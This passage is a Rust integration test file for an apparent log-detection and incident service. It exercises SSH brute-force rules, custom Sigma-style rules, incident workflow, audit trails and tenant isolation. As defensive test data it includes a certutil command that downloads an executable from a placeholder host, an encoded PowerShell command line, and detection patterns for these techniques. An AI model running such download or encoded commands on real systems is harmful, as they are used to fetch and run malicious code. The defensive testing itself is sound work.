//! Detection over HTTP: the built-in pack on ingested sshd logs, the rules
//! API, incidents and their workflow, the audit trail, and tenant isolation
//! of every one of these endpoints.

use reqwest::{Method, StatusCode};
use serde_json::{json, Value};

use crate::helpers::TestApp;
use crate::on_every_backend;

on_every_backend!(
    sshd_brute_force_becomes_an_incident_and_below_threshold_does_not,
    matches_of_one_rule_and_key_join_one_incident,
    alerts_of_concurrent_batches_are_all_recorded_and_grouped,
    rules_are_managed_validated_tested_and_confined,
    incidents_follow_the_workflow_and_are_audited_and_confined,
    changes_to_users_keys_and_settings_are_audited,
    field_mapping_is_the_organisations_own_and_recompiles_rules,
    the_same_log_sent_in_order_shuffled_or_concurrently_gives_the_same_incidents,
);

/// RFC 5424 sshd lines at 10:00:SS on 2026-11-23.
fn sshd_lines(lines: &[(u32, &str)]) -> Vec<u8> {
    lines
        .iter()
        .map(|(sec, text)| {
            format!(
                "<38>1 2026-11-23T10:{:02}:{:02}Z bastion sshd 4242 - - {text}\n",
                sec / 60,
                sec % 60
            )
        })
        .collect::<String>()
        .into_bytes()
}

async fn ingest_raw(app: &TestApp, token: &str, body: Vec<u8>) {
    let r = app
        .post_bytes(
            "/api/v1/events/raw?format=syslog",
            token,
            "text/plain",
            None,
            body,
        )
        .await;
    assert_eq!(r.status, StatusCode::ACCEPTED, "{:?}", r.body);
    assert_eq!(r.body["rejected"], 0, "{:?}", r.body);
}

async fn incidents(app: &TestApp, token: &str, query: &str) -> Vec<Value> {
    let r = app.get(&format!("/api/v1/incidents{query}"), token).await;
    assert_eq!(r.status, StatusCode::OK, "{:?}", r.body);
    r.body["items"].as_array().unwrap().clone()
}

fn titles(items: &[Value]) -> Vec<String> {
    let mut t: Vec<String> = items
        .iter()
        .map(|i| i["title"].as_str().unwrap().to_owned())
        .collect();
    t.sort();
    t
}

async fn sshd_brute_force_becomes_an_incident_and_below_threshold_does_not(app: &TestApp) {
    let admin = app.admin_token().await;
    let (_, ingest_key) = app.api_key(&admin, &["ingest"]).await;
    let mut lines: Vec<(u32, String)> = Vec::new();
    // 203.0.113.9: three invalid users (two lines each, one attempt each)
    // and two failed passwords for root: five attempts in under a minute.
    for (i, user) in ["admin", "oracle", "test"].iter().enumerate() {
        let port = 50000 + i;
        lines.push((
            i as u32 * 2,
            format!("Invalid user {user} from 203.0.113.9 port {port}"),
        ));
        lines.push((
            i as u32 * 2 + 1,
            format!("Failed password for invalid user {user} from 203.0.113.9 port {port} ssh2"),
        ));
    }
    lines.push((
        10,
        "Failed password for root from 203.0.113.9 port 50010 ssh2".into(),
    ));
    // 198.51.100.7: four attempts (eight lines), below the threshold.
    for i in 0..4u32 {
        lines.push((
            20 + i * 2,
            format!("Invalid user u{i} from 198.51.100.7 port {}", 40000 + i),
        ));
        lines.push((
            21 + i * 2,
            format!(
                "Failed password for invalid user u{i} from 198.51.100.7 port {} ssh2",
                40000 + i
            ),
        ));
    }
    let first: Vec<(u32, &str)> = lines.iter().map(|(s, t)| (*s, t.as_str())).collect();
    ingest_raw(app, &ingest_key, sshd_lines(&first)).await;
    // Not yet: 203.0.113.9 has made four attempts.
    ingest_raw(
        app,
        &ingest_key,
        sshd_lines(&[(
            40,
            "Accepted publickey for deploy from 192.0.2.10 port 41000 ssh2",
        )]),
    )
    .await;
    ingest_raw(
        app,
        &ingest_key,
        sshd_lines(&[(
            50,
            "Failed password for root from 203.0.113.9 port 50011 ssh2",
        )]),
    )
    .await;
    let found = incidents(app, &admin, "").await;
    assert_eq!(
        titles(&found),
        ["SSH brute force (source.ip=203.0.113.9)"],
        "{found:?}"
    );
    let incident = &found[0];
    assert_eq!(incident["severity"], 4);
    assert_eq!(incident["status"], "open");
    assert_eq!(incident["occurrences"], 1);
    assert_eq!(incident["entities"]["ips"][0], "203.0.113.9");
    assert_eq!(
        incident["event_ids"].as_array().unwrap().len(),
        5,
        "the five attempts"
    );

    // The brute-forcing source then logs in: critical.
    ingest_raw(
        app,
        &ingest_key,
        sshd_lines(&[(
            90,
            "Accepted password for root from 203.0.113.9 port 50020 ssh2",
        )]),
    )
    .await;
    let found = incidents(app, &admin, "?sort=-severity").await;
    assert_eq!(
        found[0]["title"],
        "SSH login after brute force (source.ip=203.0.113.9)"
    );
    assert_eq!(found[0]["severity"], 5);
    assert_eq!(found.len(), 2);

    // The incident shows its alert; the alert names the events.
    let id = incident["id"].as_str().unwrap();
    let detail = app.get(&format!("/api/v1/incidents/{id}"), &admin).await;
    assert_eq!(detail.status, StatusCode::OK);
    assert_eq!(detail.body["alerts"].as_array().unwrap().len(), 1);
    let event_id = detail.body["alerts"][0]["event_ids"][0].as_str().unwrap();
    let event = app.get(&format!("/api/v1/events/{event_id}"), &admin).await;
    assert_eq!(event.body["source.ip"], "203.0.113.9");

    // Rule hit counts: the base rule matched every attempt (5 + 4), the
    // correlation fired once.
    let rules = app.get("/api/v1/rules?limit=1000", &admin).await;
    let hits = |title: &str| {
        rules.body["items"]
            .as_array()
            .unwrap()
            .iter()
            .find(|r| r["title"] == title)
            .unwrap()["hits"]
            .clone()
    };
    assert_eq!(hits("SSH brute force"), 1);
    assert_eq!(hits("SSH authentication failure"), 9);

    // Another organisation sees none of it.
    let other = app.second_org("other").await;
    assert!(incidents(app, &other, "").await.is_empty());
    assert_eq!(
        app.get(&format!("/api/v1/incidents/{id}"), &other)
            .await
            .status,
        StatusCode::NOT_FOUND
    );
    let alerts = app.get("/api/v1/alerts", &other).await;
    assert_eq!(alerts.body["items"], json!([]));
    let rules = app.get("/api/v1/rules?limit=1000", &other).await;
    assert!(rules.body["items"]
        .as_array()
        .unwrap()
        .iter()
        .all(|r| r["hits"] == 0));
}

async fn matches_of_one_rule_and_key_join_one_incident(app: &TestApp) {
    let admin = app.admin_token().await;
    let yaml = "title: Encoded PowerShell\nid: 5d0a1f2e-0000-4000-8000-0000000000aa\nlogsource:\n  product: windows\ndetection:\n  sel:\n    CommandLine|contains: ' -enc '\n  condition: sel\nlevel: medium\n";
    let r = app
        .post("/api/v1/rules", Some(&admin), json!({"yaml": yaml}))
        .await;
    assert_eq!(r.status, StatusCode::CREATED, "{:?}", r.body);
    let event = |host: &str| json!({"@timestamp": "2026-11-23T10:00:00Z", "host": {"name": host}, "CommandLine": "powershell -enc SQBFAFgA"});
    let body = json!([event("ws-1"), event("ws-2"), {"message": "quiet"}]);
    let r = app.post("/api/v1/events", Some(&admin), body).await;
    assert_eq!(r.status, StatusCode::ACCEPTED);
    let found = incidents(app, &admin, "?rule_id=5d0a1f2e-0000-4000-8000-0000000000aa").await;
    assert_eq!(found.len(), 1, "{found:?}");
    assert_eq!(found[0]["occurrences"], 2);
    assert_eq!(found[0]["severity"], 3);
    let mut hosts: Vec<&str> = found[0]["entities"]["hosts"]
        .as_array()
        .unwrap()
        .iter()
        .map(|h| h.as_str().unwrap())
        .collect();
    hosts.sort_unstable();
    assert_eq!(hosts, ["ws-1", "ws-2"]);
    let alerts = app
        .get(
            &format!(
                "/api/v1/alerts?incident={}",
                found[0]["id"].as_str().unwrap()
            ),
            &admin,
        )
        .await;
    assert_eq!(alerts.body["items"].as_array().unwrap().len(), 2);

    // Once resolved, the next match opens a new incident.
    let id = found[0]["id"].as_str().unwrap();
    let r = app
        .request(
            Method::PATCH,
            &format!("/api/v1/incidents/{id}"),
            Some(&admin),
            Some(json!({"status": "resolved"})),
        )
        .await;
    assert_eq!(r.status, StatusCode::OK, "{:?}", r.body);
    app.post("/api/v1/events", Some(&admin), event("ws-3"))
        .await;
    let found = incidents(
        app,
        &admin,
        "?rule_id=5d0a1f2e-0000-4000-8000-0000000000aa&status=open",
    )
    .await;
    assert_eq!(found.len(), 1);
    assert_eq!(found[0]["occurrences"], 1);
}

async fn alerts_of_concurrent_batches_are_all_recorded_and_grouped(app: &TestApp) {
    let admin = app.admin_token().await;
    let yaml = "title: Certutil download\nid: 5d0a1f2e-0000-4000-8000-0000000000bb\nlogsource:\n  product: windows\ndetection:\n  sel:\n    CommandLine|contains: '-urlcache'\n  condition: sel\nlevel: high\n";
    let r = app
        .post("/api/v1/rules", Some(&admin), json!({"yaml": yaml}))
        .await;
    assert_eq!(r.status, StatusCode::CREATED, "{:?}", r.body);
    // Eight batches at once, each with 25 matches among quiet events: their
    // alerts are queued together and written by whichever comes first.
    let batch = |n: usize| {
        let events: Vec<Value> = (0..50)
            .map(|i| {
                let command = if i % 2 == 0 { "certutil -urlcache -f http://x/p.exe" } else { "notepad" };
                json!({"@timestamp": format!("2026-11-23T10:{n:02}:{:02}Z", i % 60), "host": {"name": format!("ws-{n}")}, "CommandLine": command})
            })
            .collect();
        app.post("/api/v1/events", Some(&admin), Value::Array(events))
    };
    let replies = tokio::join!(
        batch(0),
        batch(1),
        batch(2),
        batch(3),
        batch(4),
        batch(5),
        batch(6),
        batch(7)
    );
    for reply in [
        replies.0, replies.1, replies.2, replies.3, replies.4, replies.5, replies.6, replies.7,
    ] {
        assert_eq!(reply.status, StatusCode::ACCEPTED, "{:?}", reply.body);
        assert_eq!(reply.body["accepted"], 50);
    }
    let found = incidents(app, &admin, "?rule_id=5d0a1f2e-0000-4000-8000-0000000000bb").await;
    assert_eq!(found.len(), 1, "one rule, one key: one incident; {found:?}");
    assert_eq!(found[0]["occurrences"], 200);
    assert_eq!(found[0]["entities"]["hosts"].as_array().unwrap().len(), 8);
    let rules = app.get("/api/v1/rules?limit=1000", &admin).await;
    let rule = rules.body["items"]
        .as_array()
        .unwrap()
        .iter()
        .find(|r| r["title"] == "Certutil download")
        .cloned()
        .unwrap();
    assert_eq!(rule["hits"], 200, "hit counts of every batch add up");

    let other = app.second_org("other-concurrent").await;
    assert!(incidents(app, &other, "").await.is_empty());
}

async fn rules_are_managed_validated_tested_and_confined(app: &TestApp) {
    let admin = app.admin_token().await;
    let analyst_id = app.create_user(&admin, "ana@example.test", "analyst").await;
    let _ = analyst_id;
    let analyst = app.token("ana@example.test", "user-password-123").await;
    let other = app.second_org("rivals").await;

    // The built-in pack is there, enabled, and cannot be edited or deleted.
    let list = app.get("/api/v1/rules?limit=1000", &admin).await;
    let items = list.body["items"].as_array().unwrap();
    assert_eq!(items.len(), 8);
    assert!(items
        .iter()
        .all(|r| r["builtin"] == true && r["enabled"] == true));
    let brute = "3f731da3-bfb2-4ae7-9a66-5d8a696a451f";
    let r = app
        .request(
            Method::PUT,
            &format!("/api/v1/rules/{brute}"),
            Some(&admin),
            Some(json!({"yaml": "title: x"})),
        )
        .await;
    assert_eq!(
        (r.status, r.body["code"].as_str()),
        (StatusCode::CONFLICT, Some("builtin_rule"))
    );
    let r = app
        .request(
            Method::DELETE,
            &format!("/api/v1/rules/{brute}"),
            Some(&admin),
            None,
        )
        .await;
    assert_eq!(r.status, StatusCode::CONFLICT);

    // Bad rules are refused naming what is wrong.
    let r = app
        .post(
            "/api/v1/rules",
            Some(&admin),
            json!({"yaml": "title: t\ndetection:\n  s:\n    a|bogus: 1\n  condition: s\n"}),
        )
        .await;
    assert_eq!(r.status, StatusCode::BAD_REQUEST);
    assert_eq!(r.body["code"], "invalid_rule");
    assert_eq!(r.body["field"], "yaml");
    assert!(
        r.body["detail"].as_str().unwrap().contains("bogus"),
        "{:?}",
        r.body
    );
    let r = app.post("/api/v1/rules/validate", Some(&analyst), json!({"yaml": "title: c\ncorrelation:\n  type: event_count\n  rules: [nope]\n  timespan: 1m\n  condition: {gte: 2}\n"})).await;
    assert_eq!(r.status, StatusCode::BAD_REQUEST);
    assert!(r.body["detail"].as_str().unwrap().contains("nope"));
    // A correlation over a built-in rule validates.
    let chained = "title: Slow brute force\ncorrelation:\n  type: event_count\n  rules: [rampart_ssh_auth_failure]\n  group-by: [source.ip]\n  timespan: 1h\n  condition: {gte: 3}\nlevel: medium\n";
    let r = app
        .post(
            "/api/v1/rules/validate",
            Some(&analyst),
            json!({"yaml": chained}),
        )
        .await;
    assert_eq!(r.status, StatusCode::OK, "{:?}", r.body);
    assert_eq!(r.body["kind"], "correlation");

    // Testing stores nothing.
    let events: Vec<Value> = (0..3)
        .map(|i| json!({"@timestamp": format!("2026-11-23T10:00:0{i}Z"), "event": {"action": "ssh_login", "outcome": "failure"}, "source": {"ip": "192.0.2.77"}, "user": {"name": "root"}}))
        .collect();
    let r = app
        .post(
            "/api/v1/rules/test",
            Some(&analyst),
            json!({"yaml": chained, "events": events}),
        )
        .await;
    assert_eq!(r.status, StatusCode::OK, "{:?}", r.body);
    assert_eq!(r.body["total"], 3);
    assert_eq!(
        r.body["alerts"].as_array().unwrap().len(),
        1,
        "{:?}",
        r.body
    );
    assert_eq!(r.body["alerts"][0]["group"]["source.ip"], "192.0.2.77");
    assert_eq!(r.body["alerts"][0]["events"], json!([0, 1, 2]));
    let r = app
        .post(
            "/api/v1/rules/test",
            Some(&analyst),
            json!({"yaml": chained, "events": [{"source.ip": "not an ip"}]}),
        )
        .await;
    assert_eq!(r.status, StatusCode::BAD_REQUEST);
    assert_eq!(r.body["field"], "events[0].source.ip");
    assert!(incidents(app, &admin, "").await.is_empty());

    // Admins write rules; analysts may not.
    let r = app
        .post("/api/v1/rules", Some(&analyst), json!({"yaml": chained}))
        .await;
    assert_eq!(r.status, StatusCode::FORBIDDEN);
    let r = app
        .post(
            "/api/v1/rules",
            Some(&admin),
            json!({"yaml": chained, "enabled": false}),
        )
        .await;
    assert_eq!(r.status, StatusCode::CREATED, "{:?}", r.body);
    let id = r.body["id"].as_str().unwrap().to_owned();
    assert_eq!(r.body["enabled"], false);
    let r = app
        .post(
            &format!("/api/v1/rules/{id}/enable"),
            Some(&admin),
            json!({}),
        )
        .await;
    assert_eq!(r.body["enabled"], true);
    let replaced = chained.replace("gte: 3", "gte: 4");
    let r = app
        .request(
            Method::PUT,
            &format!("/api/v1/rules/{id}"),
            Some(&admin),
            Some(json!({"yaml": replaced})),
        )
        .await;
    assert_eq!(r.status, StatusCode::OK, "{:?}", r.body);
    assert!(r.body["yaml"].as_str().unwrap().contains("gte: 4"));

    // Another organisation can neither see nor touch it.
    for (method, path) in [
        (Method::GET, format!("/api/v1/rules/{id}")),
        (Method::POST, format!("/api/v1/rules/{id}/disable")),
        (Method::DELETE, format!("/api/v1/rules/{id}")),
    ] {
        let r = app.request(method, &path, Some(&other), None).await;
        assert_eq!(r.status, StatusCode::NOT_FOUND, "{path}");
    }
    let r = app
        .request(
            Method::PUT,
            &format!("/api/v1/rules/{id}"),
            Some(&other),
            Some(json!({"yaml": chained})),
        )
        .await;
    assert_eq!(r.status, StatusCode::NOT_FOUND);
    assert_eq!(
        app.get("/api/v1/rules?limit=1000", &other).await.body["items"]
            .as_array()
            .unwrap()
            .len(),
        8
    );

    // Disabling the built-in brute-force rule stops its incidents.
    let r = app
        .post(
            &format!("/api/v1/rules/{brute}/disable"),
            Some(&admin),
            json!({}),
        )
        .await;
    assert_eq!(r.status, StatusCode::OK);
    let failures: Vec<(u32, String)> = (0..6)
        .map(|i| {
            (
                i,
                format!(
                    "Failed password for root from 203.0.113.50 port {} ssh2",
                    30000 + i
                ),
            )
        })
        .collect();
    let lines: Vec<(u32, &str)> = failures.iter().map(|(s, t)| (*s, t.as_str())).collect();
    ingest_raw(app, &admin, sshd_lines(&lines)).await;
    let titles = titles(&incidents(app, &admin, "").await);
    assert_eq!(
        titles,
        ["Slow brute force (source.ip=203.0.113.50)"],
        "only the custom rule fires"
    );
    let r = app
        .request(
            Method::DELETE,
            &format!("/api/v1/rules/{id}"),
            Some(&admin),
            None,
        )
        .await;
    assert_eq!(r.status, StatusCode::NO_CONTENT);

    let trail = app.get("/api/v1/audit?target_type=rule", &admin).await;
    let actions: Vec<&str> = trail.body["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["action"].as_str().unwrap())
        .collect();
    assert_eq!(
        actions,
        [
            "rule.delete",
            "rule.disable",
            "rule.update",
            "rule.enable",
            "rule.create"
        ]
    );
}

async fn incidents_follow_the_workflow_and_are_audited_and_confined(app: &TestApp) {
    let admin = app.admin_token().await;
    let analyst_id = app.create_user(&admin, "ana@example.test", "analyst").await;
    let analyst = app.token("ana@example.test", "user-password-123").await;
    app.create_user(&admin, "vic@example.test", "viewer").await;
    let viewer = app.token("vic@example.test", "user-password-123").await;
    let other = app.second_org("elsewhere").await;
    let other_user = app.get("/api/v1/me", &other).await.body["user"]["id"]
        .as_str()
        .unwrap()
        .to_owned();

    let r = app
        .post(
            "/api/v1/incidents",
            Some(&viewer),
            json!({"title": "x", "severity": 1}),
        )
        .await;
    assert_eq!(r.status, StatusCode::FORBIDDEN);
    let r = app
        .post("/api/v1/incidents", Some(&analyst), json!({"title": "Suspicious VPN logins", "severity": "high", "entities": {"users": ["bob"]}}))
        .await;
    assert_eq!(r.status, StatusCode::CREATED, "{:?}", r.body);
    assert_eq!(
        (r.body["severity"].as_i64(), r.body["status"].as_str()),
        (Some(4), Some("open"))
    );
    let id = r.body["id"].as_str().unwrap().to_owned();
    let path = format!("/api/v1/incidents/{id}");
    let patch = |token: &str, body: Value| {
        let (path, token) = (path.clone(), token.to_owned());
        async move {
            app.request(Method::PATCH, &path, Some(&token), Some(body))
                .await
        }
    };

    for status in ["acknowledged", "investigating", "resolved"] {
        let r = patch(&analyst, json!({"status": status})).await;
        assert_eq!(r.status, StatusCode::OK, "{status}: {:?}", r.body);
    }
    let r = patch(&analyst, json!({"status": "investigating"})).await;
    assert_eq!(
        (r.status, r.body["code"].as_str()),
        (StatusCode::CONFLICT, Some("invalid_transition"))
    );
    let r = patch(
        &analyst,
        json!({"status": "open", "assignee": analyst_id, "escalation": 2}),
    )
    .await;
    assert_eq!(r.status, StatusCode::OK);
    assert_eq!(
        (r.body["assignee"].as_str(), r.body["escalation"].as_i64()),
        (Some(analyst_id.as_str()), Some(2))
    );
    let r = patch(&analyst, json!({"assignee": other_user})).await;
    assert_eq!(
        (r.status, r.body["field"].as_str()),
        (StatusCode::BAD_REQUEST, Some("assignee"))
    );
    let r = patch(&analyst, json!({"escalation": 9})).await;
    assert_eq!(r.status, StatusCode::BAD_REQUEST);
    let r = patch(&analyst, json!({"stauts": "open"})).await;
    assert_eq!(
        r.status,
        StatusCode::BAD_REQUEST,
        "unknown fields are refused"
    );
    let r = patch(&analyst, json!({"assignee": null})).await;
    assert_eq!(r.body["assignee"], Value::Null);
    let r = patch(&viewer, json!({"status": "resolved"})).await;
    assert_eq!(r.status, StatusCode::FORBIDDEN);

    let r = app
        .post(
            &format!("{path}/comments"),
            Some(&analyst),
            json!({"body": "Blocked the range at the VPN."}),
        )
        .await;
    assert_eq!(r.status, StatusCode::CREATED, "{:?}", r.body);
    let r = app
        .post(
            &format!("{path}/comments"),
            Some(&analyst),
            json!({"body": "  "}),
        )
        .await;
    assert_eq!(r.status, StatusCode::BAD_REQUEST);
    let detail = app.get(&path, &viewer).await;
    assert_eq!(
        detail.body["comments"][0]["body"],
        "Blocked the range at the VPN."
    );
    assert_eq!(
        detail.body["comments"][0]["author"],
        format!("user:{analyst_id}")
    );

    // The trail has every change with its before and after, admins only.
    let r = app
        .get(
            &format!("/api/v1/audit?target_type=incident&target_id={id}"),
            &analyst,
        )
        .await;
    assert_eq!(r.status, StatusCode::FORBIDDEN);
    let trail = app
        .get(
            &format!("/api/v1/audit?target_type=incident&target_id={id}"),
            &admin,
        )
        .await;
    let entries = trail.body["items"].as_array().unwrap();
    let actions: Vec<&str> = entries
        .iter()
        .map(|e| e["action"].as_str().unwrap())
        .collect();
    assert_eq!(
        actions,
        [
            "incident.comment",
            "incident.update",
            "incident.update",
            "incident.update",
            "incident.update",
            "incident.update",
            "incident.create"
        ]
    );
    let resolved = &entries[3];
    assert_eq!(resolved["before"]["status"], "investigating");
    assert_eq!(resolved["after"]["status"], "resolved");
    assert_eq!(resolved["actor"], format!("user:{analyst_id}"));

    // Lists filter, sort and page.
    for n in 0..5 {
        app.post(
            "/api/v1/incidents",
            Some(&analyst),
            json!({"title": format!("Case {n}"), "severity": n + 1}),
        )
        .await;
    }
    let first = app
        .get("/api/v1/incidents?sort=-severity&limit=4", &admin)
        .await;
    let page: Vec<i64> = first.body["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|i| i["severity"].as_i64().unwrap())
        .collect();
    assert_eq!(page, [5, 4, 4, 3]);
    let cursor = first.body["next_cursor"].as_str().unwrap();
    let second = app
        .get(
            &format!("/api/v1/incidents?sort=-severity&limit=4&cursor={cursor}"),
            &admin,
        )
        .await;
    let page: Vec<i64> = second.body["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|i| i["severity"].as_i64().unwrap())
        .collect();
    assert_eq!(page, [2, 1]);
    assert_eq!(
        incidents(app, &admin, "?min_severity=high&status=open")
            .await
            .len(),
        3
    );
    assert_eq!(
        incidents(app, &admin, &format!("?assignee={analyst_id}"))
            .await
            .len(),
        0
    );
    let r = app.get("/api/v1/incidents?sort=colour", &admin).await;
    assert_eq!(
        (r.status, r.body["field"].as_str()),
        (StatusCode::BAD_REQUEST, Some("sort"))
    );
    let r = app.get("/api/v1/incidents?status=closed", &admin).await;
    assert_eq!(r.status, StatusCode::BAD_REQUEST);

    // Another organisation: nothing to see, change or comment on.
    assert!(incidents(app, &other, "").await.is_empty());
    assert_eq!(app.get(&path, &other).await.status, StatusCode::NOT_FOUND);
    assert_eq!(
        patch(&other, json!({"status": "resolved"})).await.status,
        StatusCode::NOT_FOUND
    );
    let r = app
        .post(
            &format!("{path}/comments"),
            Some(&other),
            json!({"body": "hi"}),
        )
        .await;
    assert_eq!(r.status, StatusCode::NOT_FOUND);
    let trail = app.get("/api/v1/audit", &other).await;
    assert!(trail.body["items"]
        .as_array()
        .unwrap()
        .iter()
        .all(|e| e["target_type"] != "incident"));
}

async fn changes_to_users_keys_and_settings_are_audited(app: &TestApp) {
    let admin = app.admin_token().await;
    let user = app.create_user(&admin, "eve@example.test", "viewer").await;
    let r = app
        .request(
            Method::PATCH,
            &format!("/api/v1/users/{user}"),
            Some(&admin),
            Some(json!({"role": "analyst", "password": "a-new-password-42"})),
        )
        .await;
    assert_eq!(r.status, StatusCode::OK, "{:?}", r.body);
    let (key, _) = app.api_key(&admin, &["read"]).await;
    let r = app
        .request(
            Method::DELETE,
            &format!("/api/v1/api-keys/{key}"),
            Some(&admin),
            None,
        )
        .await;
    assert_eq!(r.status, StatusCode::OK);
    let r = app
        .request(
            Method::PUT,
            "/api/v1/org/settings",
            Some(&admin),
            Some(json!({"retention_days": 7})),
        )
        .await;
    assert_eq!(r.status, StatusCode::OK);
    let r = app
        .request(
            Method::DELETE,
            &format!("/api/v1/users/{user}"),
            Some(&admin),
            None,
        )
        .await;
    assert_eq!(r.status, StatusCode::NO_CONTENT);

    let trail = app.get("/api/v1/audit?limit=1000", &admin).await;
    let entries = trail.body["items"].as_array().unwrap();
    let actions: Vec<&str> = entries
        .iter()
        .map(|e| e["action"].as_str().unwrap())
        .collect();
    assert_eq!(
        actions,
        [
            "user.delete",
            "settings.update",
            "api_key.revoke",
            "api_key.create",
            "user.update",
            "user.create"
        ]
    );
    let update = &entries[4];
    assert_eq!(
        (
            update["before"]["role"].as_str(),
            update["after"]["role"].as_str()
        ),
        (Some("viewer"), Some("analyst"))
    );
    assert_eq!(update["after"]["password_changed"], true);
    assert!(
        !trail.body.to_string().contains("a-new-password-42"),
        "no secret in the trail"
    );
    assert_eq!(entries[1]["after"]["retention_days"], 7);
    let filtered = app.get("/api/v1/audit?action=api_key.create", &admin).await;
    assert_eq!(filtered.body["items"].as_array().unwrap().len(), 1);
    let r = app.get("/api/v1/audit?from=yesterday", &admin).await;
    assert_eq!(
        (r.status, r.body["field"].as_str()),
        (StatusCode::BAD_REQUEST, Some("from"))
    );
}

async fn field_mapping_is_the_organisations_own_and_recompiles_rules(app: &TestApp) {
    let admin = app.admin_token().await;
    app.create_user(&admin, "ana@example.test", "analyst").await;
    let analyst = app.token("ana@example.test", "user-password-123").await;
    let other = app.second_org("mapless").await;
    let rule = "title: Whoami run\nid: 6f1a0d42-3c55-4ec1-9d1e-0c1f1b0a7e11\n\
                logsource:\n  product: windows\n  category: process_creation\n\
                detection:\n  sel:\n    CommandLine|contains: whoami\n  condition: sel\nlevel: high\n";
    for token in [&admin, &other] {
        let r = app
            .post("/api/v1/rules", Some(token), json!({"yaml": rule}))
            .await;
        assert_eq!(r.status, StatusCode::CREATED, "{:?}", r.body);
    }
    // A shipper that writes the command line where no default looks.
    let event = json!({"@timestamp": "2026-11-23T10:00:00Z", "proc": {"cmdline": "WHOAMI /all"}});
    let ingest = |token: String| {
        let event = event.clone();
        async move {
            let r = app.post("/api/v1/events", Some(&token), event).await;
            assert_eq!(r.status, StatusCode::ACCEPTED, "{:?}", r.body);
        }
    };
    let tried = |token: String| {
        let event = event.clone();
        async move {
            let r = app
                .post(
                    "/api/v1/rules/test",
                    Some(&token),
                    json!({"yaml": rule, "events": [event]}),
                )
                .await;
            assert_eq!(r.status, StatusCode::OK, "{:?}", r.body);
            r.body["matched"].as_u64().unwrap()
        }
    };
    ingest(admin.clone()).await;
    assert!(incidents(app, &admin, "").await.is_empty());
    assert_eq!(tried(admin.clone()).await, 0);

    let view = app.get("/api/v1/detection/field-mapping", &analyst).await;
    assert_eq!(view.status, StatusCode::OK, "{:?}", view.body);
    assert_eq!(view.body["mapping"], json!({}));
    assert_eq!(view.body["updated_at"], Value::Null);
    assert_eq!(
        view.body["defaults"]["CommandLine"],
        json!(["process.command_line"])
    );

    // Only admins change it, and a bad entry is named.
    let put = |token: &String, body: Value| {
        let token = token.clone();
        async move {
            app.request(
                Method::PUT,
                "/api/v1/detection/field-mapping",
                Some(&token),
                Some(body),
            )
            .await
        }
    };
    let mapping = json!({"mapping": {"CommandLine": ["proc.cmdline"]}});
    let r = put(&analyst, mapping.clone()).await;
    assert_eq!(r.status, StatusCode::FORBIDDEN);
    let r = put(
        &admin,
        json!({"mapping": {"CommandLine": ["proc..cmdline"]}}),
    )
    .await;
    assert_eq!(r.status, StatusCode::BAD_REQUEST, "{:?}", r.body);
    assert_eq!(r.body["field"], "mapping.CommandLine");
    let r = put(&admin, json!({"mapping": {"CommandLine": []}})).await;
    assert_eq!(r.status, StatusCode::BAD_REQUEST);
    let r = put(&admin, mapping.clone()).await;
    assert_eq!(r.status, StatusCode::OK, "{:?}", r.body);
    assert_eq!(r.body["mapping"], mapping["mapping"]);
    assert!(r.body["updated_at"].is_string());

    // Detection reads the new place at once, in ingest and in tests.
    ingest(admin.clone()).await;
    let found = incidents(app, &admin, "").await;
    assert_eq!(titles(&found), ["Whoami run"]);
    assert_eq!(tried(admin.clone()).await, 1);

    // Another organisation keeps the defaults.
    let theirs = app.get("/api/v1/detection/field-mapping", &other).await;
    assert_eq!(theirs.body["mapping"], json!({}));
    assert_eq!(tried(other.clone()).await, 0);
    ingest(other.clone()).await;
    assert!(incidents(app, &other, "").await.is_empty());

    // Emptying it goes back to the defaults; both changes are audited.
    let r = put(&admin, json!({"mapping": {}})).await;
    assert_eq!(r.status, StatusCode::OK);
    assert_eq!(tried(admin.clone()).await, 0);
    let trail = app
        .get("/api/v1/audit?target_type=settings&limit=10", &admin)
        .await;
    let entries = trail.body["items"].as_array().unwrap();
    let actions: Vec<&str> = entries
        .iter()
        .map(|e| e["action"].as_str().unwrap())
        .collect();
    assert_eq!(actions, ["field_mapping.reset", "field_mapping.update"]);
    assert_eq!(entries[1]["after"], mapping["mapping"]);
    assert_eq!(entries[0]["before"], mapping["mapping"]);
    let theirs = app
        .get("/api/v1/audit?target_type=settings&limit=10", &other)
        .await;
    assert_eq!(theirs.body["items"], json!([]));
}

/// An sshd log of under an hour: 30 sources failing in bursts of varied
/// size and pace (a third of the attempts as "Invalid user" pairs), some
/// then logging in. Deterministic (a xorshift generator).
fn brute_force_log() -> Vec<(u32, String)> {
    let mut seed = 0x2545_f491_4f6c_dd1d_u64;
    let mut below = |n: u64| {
        seed ^= seed << 13;
        seed ^= seed >> 7;
        seed ^= seed << 17;
        seed % n
    };
    let mut lines = Vec::new();
    for source in 0..30u32 {
        let ip = format!("203.0.113.{source}");
        let start = below(1_500) as u32;
        let attempts = 3 + below(40) as u32;
        let gap = 1 + below(15) as u32;
        for n in 0..attempts {
            let at = start + n * gap;
            let port = 40_000 + source * 100 + n;
            if below(3) == 0 {
                lines.push((at, format!("Invalid user guest{n} from {ip} port {port}")));
                lines.push((
                    at,
                    format!("Failed password for invalid user guest{n} from {ip} port {port} ssh2"),
                ));
            } else {
                lines.push((
                    at,
                    format!("Failed password for root from {ip} port {port} ssh2"),
                ));
            }
        }
        if below(2) == 0 {
            lines.push((
                start + attempts * gap + 30,
                format!("Accepted password for root from {ip} port 22 ssh2"),
            ));
        }
    }
    lines.sort_by_key(|(at, _)| *at);
    lines
}

/// Every incident as (title, group key, occurrences), sorted.
async fn incident_summary(app: &TestApp, token: &str) -> Vec<(String, String, i64)> {
    let mut out: Vec<(String, String, i64)> = incidents(app, token, "?limit=1000")
        .await
        .iter()
        .map(|i| {
            (
                i["title"].as_str().unwrap().to_owned(),
                i["group_key"].as_str().unwrap_or_default().to_owned(),
                i["occurrences"].as_i64().unwrap(),
            )
        })
        .collect();
    out.sort();
    out
}

async fn the_same_log_sent_in_order_shuffled_or_concurrently_gives_the_same_incidents(
    app: &TestApp,
) {
    let log = brute_force_log();
    let lines: Vec<(u32, &str)> = log.iter().map(|(at, l)| (*at, l.as_str())).collect();
    let files: Vec<Vec<u8>> = lines.chunks(40).map(sshd_lines).collect();

    // In order, one file after another.
    let in_order = app.admin_token().await;
    for file in &files {
        ingest_raw(app, &in_order, file.clone()).await;
    }
    let expected = incident_summary(app, &in_order).await;
    assert!(
        expected
            .iter()
            .filter(|i| i.0.starts_with("SSH brute force"))
            .count()
            >= 10,
        "{expected:?}"
